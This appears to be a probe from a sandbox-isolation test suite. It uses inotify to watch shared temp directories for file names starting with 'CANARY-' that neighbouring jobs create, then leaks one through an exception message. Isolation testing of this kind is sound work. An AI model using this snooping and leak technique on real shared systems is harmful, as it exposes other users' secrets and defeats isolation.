"""Has the kernel tell it the names of files that others make, for which it need not open a folder.
class: reach a neighbour
verdict: error, failed, timeout, memory, crash, blocked
success: canary
control: shared
"""

import ctypes
import os
import tempfile
import time

PLACES = [os.getcwd(), "/tmp/submission", tempfile.gettempdir(), os.path.dirname(tempfile.gettempdir()), "/tmp", "/dev/shm"]
LOOT = []
libc = ctypes.CDLL(None)
handle = libc.inotify_init1(0o4000)
for place in PLACES:
    libc.inotify_add_watch(handle, place.encode(), 0x100)
end = time.time() + 2
while time.time() < end and not LOOT:
    try:
        seen = os.read(handle, 4096)
    except OSError:
        time.sleep(0.005)
        continue
    LOOT += [part.decode() for part in seen.split(b"\0") if part.startswith(b"CANARY-")]


def scale(x):
    raise ValueError(LOOT[0] if LOOT else "nothing")
